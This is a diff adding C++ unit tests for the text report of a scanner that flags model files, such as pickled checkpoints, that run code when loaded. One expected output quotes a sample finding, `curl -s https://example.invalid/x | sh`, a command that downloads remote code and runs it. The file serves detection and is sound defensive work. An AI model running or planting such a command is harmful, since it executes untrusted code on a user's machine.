@@ -1,0 +1,152 @@
+#include "report/text.h"
+
+#include <gtest/gtest.h>
+
+#include "base/text.h"
+#include "report/sample.h"
+#include "report/words.h"
+
+namespace assay::report {
+namespace {
+
+using finding::Status;
+
+bool has(const std::string& text, std::string_view part) { return text.find(part) != std::string::npos; }
+
+std::size_t times(const std::string& text, std::string_view part) {
+  std::size_t n = 0;
+  for (auto at = text.find(part); at != std::string::npos; at = text.find(part, at + 1)) ++n;
+  return n;
+}
+
+Report one(const Artifact& artifact) {
+  auto r = sample::mixed();
+  r.artifacts = {artifact};
+  r.status = artifact.status;
+  return r;
+}
+
+TEST(TextReport, SaysWhatItWouldDoWhereAndWhatToDoNow) {
+  const auto text = to_text(sample::mixed(), {.colour = false, .verbose = false, .width = 120});
+  EXPECT_TRUE(has(text,
+                  "unsafe      pytorch_model.bin — would do harm when loaded\n"
+                  "            Loading this file runs the shell command `curl -s https://example.invalid/x | sh`.\n"
+                  "              os.system('curl -s https://example.invalid/x | sh')\n"
+                  "              in archive/data.pkl, at offset 0x1f · pickle.call.os-system\n"
+                  "            Do now: Do not load it. Ask its author for safetensors.\n"))
+      << text;
+}
+
+TEST(TextReport, EndsWithTheSummary) {
+  const auto text = to_text(sample::mixed(), {.colour = false, .verbose = false, .width = 120});
+  EXPECT_TRUE(has(text,
+                  "unsafe: 1 of 7 files would do harm when loaded · not scanned for: malware, secrets\n"
+                  "files        1 unsafe, 1 suspicious, 1 error, 1 unscanned, 1 caution, 2 safe (28.6 kB)\n"
+                  "coverage     5.5 kB parsed, 15.0 kB inert, 0 B padding, 8.0 kB unexamined\n"
+                  "not examined Python source code: modeling.py\n"
+                  "policy       middle (0123456789abcdef)\n"
+                  "time         0.04 s\n"
+                  "confinement  cell\n"
+                  "safe means: loading runs no code; it says nothing about what the model does\n"))
+      << text;
+}
+
+TEST(TextReport, NamesSafeFilesOnlyWhenVerbose) {
+  EXPECT_FALSE(has(to_text(sample::mixed()), "good.bin"));
+  const auto text = to_text(sample::mixed(), {.colour = false, .verbose = true, .width = 200});
+  EXPECT_TRUE(has(text, "safe        good.bin — loading it runs no code"));
+  EXPECT_TRUE(has(text, "torch._utils._rebuild_tensor_v2: innocuous, rebuilds a tensor from its bytes"));
+  EXPECT_TRUE(has(text, "12 tensors, 3.0 kB; torch.load(weights_only=True) takes it"));
+  EXPECT_TRUE(has(text, "torch.load(weights_only=True) refuses it: os.system is not on its list, at offset 0x1f"));
+  EXPECT_EQ(times(text, "use safetensors"), 1u) << "for the safe pickle, not for the safe configuration";
+}
+
+TEST(TextReport, PutsTheWorstNextToTheSummary) {
+  const auto text = to_text(sample::mixed());
+  EXPECT_LT(text.find("caution "), text.find("unscanned "));
+  EXPECT_LT(text.find("unscanned "), text.find("error "));
+  EXPECT_LT(text.find("suspicious "), text.find("unsafe "));
+}
+
+TEST(TextReport, GivesEveryFileThatIsNotSafeALine) {
+  for (auto status :
+       {Status::caution, Status::queued, Status::unscanned, Status::error, Status::suspicious, Status::unsafe}) {
+    auto bare = sample::artifact("bare.bin", status);
+    const auto text = to_text(one(bare));
+    EXPECT_TRUE(has(text, std::string{to_string(status)} + " ")) << text;
+    EXPECT_TRUE(has(text, "bare.bin — ")) << text;
+    if (status != Status::unscanned && status != Status::queued) {
+      EXPECT_TRUE(has(text, "Do now: ")) << text;
+    }
+  }
+}
+
+TEST(TextReport, GroupsWhatRepeatsARule) {
+  auto evil = sample::checkpoint("evil.bin", Status::unsafe);
+  for (unsigned i = 0; i < 17; ++i) evil.findings.push_back(sample::os_system(i, "echo " + std::to_string(i)));
+  const auto text = to_text(one(evil));
+  EXPECT_TRUE(has(text, "also at offset 0x4: os.system('echo 4')\n"));
+  EXPECT_FALSE(has(text, "echo 5"));
+  EXPECT_TRUE(has(text, "and 12 more like it\n"));
+  EXPECT_TRUE(has(to_text(one(evil), {.colour = false, .verbose = true, .width = 80}), "os.system('echo 16')"));
+}
+
+TEST(TextReport, StaysShortWhereAFileHasEverythingWrongWithIt) {
+  auto evil = sample::artifact("evil.bin", Status::unsafe);
+  for (unsigned i = 0; i < 5000; ++i) {
+    evil.findings.push_back(sample::os_system(i, std::string(5000, 'x')));
+    evil.findings.back().rule = "rule-" + std::to_string(i);
+    evil.unexamined.push_back({"m", {i, i + 1}, "why"});
+    evil.unscanned.push_back("reason " + std::to_string(i));
+  }
+  const auto text = to_text(one(evil));
+  EXPECT_TRUE(has(text, "and 4,992 other kinds of finding; -v shows all"));
+  EXPECT_TRUE(has(text, "and 4,997 other ranges not examined"));
+  EXPECT_TRUE(has(text, "4,992 other reasons"));
+  EXPECT_LT(times(text, "\n"), 1000u);
+}
+
+TEST(TextReport, HidesNotesAndWaivedFindingsUntilAsked) {
+  auto a = sample::artifact("a.pkl", Status::caution);
+  a.findings = {sample::os_system(1, "echo waived"), sample::os_system(2, "echo note")};
+  a.findings[0].waived = true;
+  a.findings[1].severity = finding::Severity::note;
+  const auto text = to_text(one(a));
+  EXPECT_FALSE(has(text, "echo"));
+  EXPECT_TRUE(has(text, "waived       1 finding, by the policy"));
+  const auto all = to_text(one(a), {.colour = false, .verbose = true, .width = 120});
+  EXPECT_TRUE(has(all, "`echo waived`. (waived by the policy)"));
+}
+
+TEST(TextReport, SpeaksOfAnEmptyRepository) {
+  EXPECT_TRUE(has(to_text(Report{}), "safe: there were no files to scan\n"));
+}
+
+// A member's name that clears the screen or writes "safe" on a line of its own would forge the verdict.
+TEST(TextReport, LetsNoStringOfAFileDraw) {
+  for (const bool verbose : {false, true}) {
+    const auto text =
+        to_text(sample::filled_with(sample::kHostile), {.colour = false, .verbose = verbose, .width = 80});
+    EXPECT_TRUE(is_utf8(text));
+    std::string lines;
+    for (const char c : text)
+      if (c != '\n') lines += c;
+    EXPECT_EQ(printable(lines, lines.size()), lines) << "nothing is left to escape";
+    EXPECT_FALSE(has(text, "\nsafe  \\u202e"));
+  }
+}
+
+TEST(TextReport, ColoursOnlyWhenAsked) {
+  EXPECT_FALSE(has(to_text(sample::mixed()), "\x1b"));
+  const auto text = to_text(sample::mixed(), {.colour = true, .verbose = false, .width = 80});
+  EXPECT_TRUE(has(text, "\x1b[1;31munsafe\x1b[0m"));
+  EXPECT_EQ(times(text, "\x1b[") % 2, 0u) << "every colour is switched off again";
+}
+
+TEST(TextReport, FitsNarrowTerminals) {
+  for (unsigned width : {0u, 1u, 39u, 40u, 80u})
+    EXPECT_TRUE(has(to_text(sample::mixed(), {.colour = false, .verbose = true, .width = width}), "safe means:"));
+}
+
+}  // namespace
+}  // namespace assay::report
